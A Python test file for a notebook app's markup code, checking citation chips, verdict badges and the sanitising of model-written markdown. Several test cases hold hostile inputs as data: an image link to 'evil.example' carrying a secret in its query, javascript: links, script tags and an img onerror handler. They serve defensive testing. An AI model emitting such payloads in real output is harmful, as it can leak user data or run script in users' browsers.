from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from ingest.models import Anchor
from notebook_app.records import Citation
from notebook_app.ui import markup


def cite(n: int) -> Citation:
    return Citation(n, Anchor("f" * 64, 3, 0, 4, "Words"), "Paper", "iii")


def answer(text: str, sentences: list[dict[str, object]], *numbers: int) -> tuple[str, int]:
    return markup.answer_markdown(text, "m1", [cite(n) for n in numbers], sentences, lambda key: key)


def test_a_marker_becomes_a_chip_and_one_without_citation_is_left_out() -> None:
    body, _ = answer("It lasts [1]. It fades [2].", [], 1)
    assert "[1](#cite-m1-1)" in body
    assert body.endswith("It fades.")


def test_code_is_left_as_it_is() -> None:
    text = "Take `a[1]` and\n```\nb[1] = ~c\n```"
    assert answer(text, [], 1)[0] == text


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "[click](javascript:alert(1))",
        "see https://evil.example/now and www.evil.example",
        "[ref]\n\n[ref]: https://evil.example",
        "[a [b] c](javascript:alert(1))",
        "[over two](\njavascript:alert(1))",
        "> [r]: javascript:alert(1)\n\n[go][r] and [r]",
        "![x][r]\n\n- [r]: https://evil.example/pixel.png",
        "<img src=https://evil.example/pixel.png> <script>alert(1)</script>",
        ":red[shout] and :material/lock: and :orange-badge[weak]",
    ],
)
def test_what_a_model_wrote_neither_fetches_nor_links_nor_styles(hostile: str) -> None:
    tamed = markup.tame(hostile)
    assert "](" not in tamed
    assert "![" not in tamed
    assert "https://" not in tamed or "\\[ref\\]:" in tamed
    assert ":red[" not in tamed.replace("\\:red[", "")
    assert ":material/" not in tamed.replace("\\:material/", "")


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "![x](data:image/png;base64,AAAA)",
        "[a [b] c](javascript:alert(1))",
        "[over two](\njavascript:alert(1))",
        "> [r]: javascript:alert(1)\n\n[go][r] and [r]",
        "![x][r]\n\n- [r]: //evil.example/pixel.png",
        "<https://evil.example> <a href='javascript:alert(1)'>x</a> <img src=x onerror=alert(1)>",
    ],
)
def test_nothing_of_it_becomes_a_picture_a_link_or_html(hostile: str) -> None:
    body, _ = answer(f"It lasts [1]. {hostile}", [], 1)
    shown = MarkdownIt("commonmark", {"html": False}).render(body)
    assert "<img" not in shown
    assert re.findall(r'href="([^"]*)"', shown) == ["#cite-m1-1"]
    assert "<script" not in shown


def test_about_is_not_struck_through() -> None:
    assert markup.tame("~10 to ~20, but ~~gone~~") == r"\~10 to \~20, but ~~gone~~"


def test_a_sentence_that_is_not_borne_out_is_marked_after_its_markers() -> None:
    sentences = [
        {"text": "It lasts.", "citations": [1], "verdict": "supported"},
        {"text": "It fades", "citations": [2], "verdict": "weak"},
        {"text": "It sings", "citations": [2], "verdict": "unsupported"},
    ]
    body, lost = answer("It lasts. [1] It fades [2]. It sings [2].", sentences, 1, 2)
    assert "(#cite-m1-2). :orange-badge[verdict_weak]" in body
    assert body.endswith("(#cite-m1-2). :red-badge[verdict_unsupported]")
    assert lost == 0


def test_a_sentence_is_found_with_its_markers_before_the_full_stop() -> None:
    sentences = [
        {"text": "It lasts, and grows.", "citations": [1, 2], "verdict": "weak"},
        {"text": "It sings.", "citations": [2], "verdict": "unsupported"},
    ]
    body, lost = answer("It lasts [1], and grows [2][1]. It sings [2].", sentences, 1, 2)
    assert lost == 0
    assert body.endswith(":red-badge[verdict_unsupported]")
    assert ". :orange-badge[verdict_weak] It sings" in body


def test_a_verdict_without_a_place_is_counted() -> None:
    assert answer("Something else.", [{"text": "Lost", "citations": [], "verdict": "weak"}]) == ("Something else.", 1)


@pytest.mark.parametrize("tail", ["", " [", " [1", "[1, 2", " [12"])
def test_a_marker_cut_in_two_waits(tail: str) -> None:
    assert markup.half_written(f"It lasts{tail}") == "It lasts"


def test_a_whole_marker_of_a_growing_text_is_not_yet_live() -> None:
    assert "[1](#cite-pending)" in markup.half_written("It lasts [1] and")


def test_a_copy_lists_what_it_cites() -> None:
    copied = markup.plain_copy("It lasts [1].", [cite(1)], lambda citation: f"{citation.title}, {citation.page}")
    assert copied == "It lasts [1].\n\n[1] Paper, 3: “Words”"


def test_a_preview_is_one_line_cut_between_words() -> None:
    body = "# Head\n\n- **Spaced** practice [1] lasts"
    assert markup.shortened(markup.without_markup(body), 21) == "Head Spaced practice…"


def test_escaped_text_shows_as_it_stands() -> None:
    assert markup.escaped("a*b_c [1] :red[x]") == r"a\*b\_c \[1\] \:red\[x\]"


def test_the_opening_of_a_guide_is_its_summary() -> None:
    assert markup.opening("- It lasts. [1]\n- It fades.\n\n**Topics**\n\nSpacing") == "- It lasts. [1]\n- It fades."
    assert markup.opening("**Topics** only") == "**Topics** only"


def test_a_chip_after_a_colon_stays_a_chip() -> None:
    assert markup.with_chips("It says: [1]", "m", [1]) == "It says\\:\u2060[1](#cite-m-1)"
